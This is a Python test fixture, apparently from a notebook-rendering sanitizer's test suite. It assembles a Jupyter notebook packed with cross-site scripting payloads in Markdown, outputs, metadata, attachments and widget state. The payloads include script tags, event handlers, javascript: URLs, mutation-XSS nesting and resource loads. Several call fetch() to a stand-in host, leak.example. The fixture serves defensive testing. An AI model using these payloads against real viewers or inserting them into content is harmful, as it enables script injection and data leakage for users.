"""A notebook that tries everything: scripts wherever HTML, Markdown, pictures, widgets and names can carry them."""

from typing import Any

from tests import factories as make

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
OUT = "https://leak.example/"
SCRIPT = "<script>document.title='ran'</script>"
RUN = "document.title='ran';fetch('https://leak.example/ran')"

MARKDOWN = [
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f"<img src='{OUT}a.png'>",
    f"![picture]({OUT}b.png)",
    f"[click](javascript:{RUN})",
    f"[click](data:text/html,<script>{RUN}</script>)",
    f"<a href='java\tscript:{RUN}'>x</a>",
    f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    f"<iframe src='{OUT}'></iframe><object data='{OUT}'></object><embed src='{OUT}'>",
    f"<style>@import url('{OUT}c.css'); body {{ background: url('{OUT}d.png') }}</style>",
    f"<link rel=stylesheet href='{OUT}e.css'><meta http-equiv=refresh content='0;url={OUT}'><base href='{OUT}'>",
    f"<form action='{OUT}'><input name=x autofocus onfocus=\"{RUN}\"></form>",
    f"<video autoplay src='{OUT}f.mp4'></video><audio autoplay src='{OUT}g.mp3'></audio>",
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table></mtext></math>',
    f"<div style='background:url({OUT}h.png)' onclick=\"{RUN}\">x</div>",
    "```mermaid\ngraph TD; A-->B; click A call alert(1)\n```",
    f"$\\href{{javascript:{RUN}}}{{x}}$ and $$\\require{{html}} \\style{{background:url({OUT}i.png)}}{{y}}$$",
    f'![a](attachment:evil.svg) ![b](attachment:x" onerror="{RUN})',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "</section></div></body><script>document.title='ran'</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=document.title='ran'>\">",
]  # fmt: skip

OUTPUTS: list[dict[str, Any]] = [
    {"data": {"text/html": f'<script>{RUN}</script><b onmouseover="{RUN}">bold</b>'}},
    {"data": {"text/html": [f"<img src='{OUT}j.png' ", f"onerror=\"{RUN}\" width='1 onload={RUN}'>"]}},
    {"data": {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"><script>{RUN}</script>"
                               f"<image href='{OUT}k.png'/></svg>"}},
    {"data": {"image/png": f'{PIXEL}" onload="{RUN}'}},
    {"data": {"image/png": "PHNjcmlwdD4="}},
    {"data": {"image/png": PIXEL}, "metadata": {"image/png": {"width": f"1 onload={RUN}"}}},
    {"data": {"application/javascript": RUN, "text/plain": "<script>x</script>"}},
    {"data": {"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/html": f"<script>{RUN}</script>"}},
    {"data": {"text/markdown": f"<script>{RUN}</script> ![x]({OUT}l.png)"}},
    {"data": {"text/latex": f"$\\text{{<script>{RUN}</script>}}$"}},
    {"data": {"text/vnd.mermaid": f'graph TD; A["<img src=x onerror={RUN}>"]'}},
    {"data": {"text/plain": {"not": "text"}, "image/jpeg": 7, "text/html": None}},
    {"data": "not a mapping"},
    {"output_type": "stream", "name": f'"><script>{RUN}</script>', "text": f"\x1b]8;;{OUT}\x07link\x1b[31m</pre>{SCRIPT}"},
    {"output_type": "error", "ename": "<script>", "evalue": SCRIPT, "traceback": [SCRIPT, 7]},
    {"output_type": "error", "ename": "E", "evalue": "v", "traceback": None},
]  # fmt: skip


def notebook() -> dict[str, Any]:
    """Everything above in one notebook, between honest cells that must survive."""
    first = make.text("# An honest heading\n\nWith $e^{i\\pi}$ and ![pixel](attachment:pixel.png).")
    first["attachments"] = {"pixel.png": {"image/png": PIXEL}}
    cells = [first]
    for source in MARKDOWN:
        cell = make.text(source)
        cell["attachments"] = {"evil.svg": {"image/svg+xml": f'<svg onload="{RUN}"/>'}, 'x"': {"image/png": "?"}}
        cells.append(cell)
    outputs = [{"output_type": "display_data", "metadata": {}, **output} for output in OUTPUTS]
    last = make.code(f"print('honest')  # <script>{RUN}</script>", outputs=outputs)
    last["metadata"] = {"nbgrader": {"grade_id": f'"><script>{RUN}</script>', "grade": True}, "tags": ["<script>"]}
    cells += [
        last,
        make.code("x = 1", execution_count=f"<script>{RUN}</script>"),
        make.cell("raw", f"<script>{RUN}</script>"),
    ]
    made = make.notebook(*cells)
    made["metadata"]["title"] = f"<script>{RUN}</script>"
    made["metadata"]["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {"x": f"<script>{RUN}</script>"}}
    }
    return made
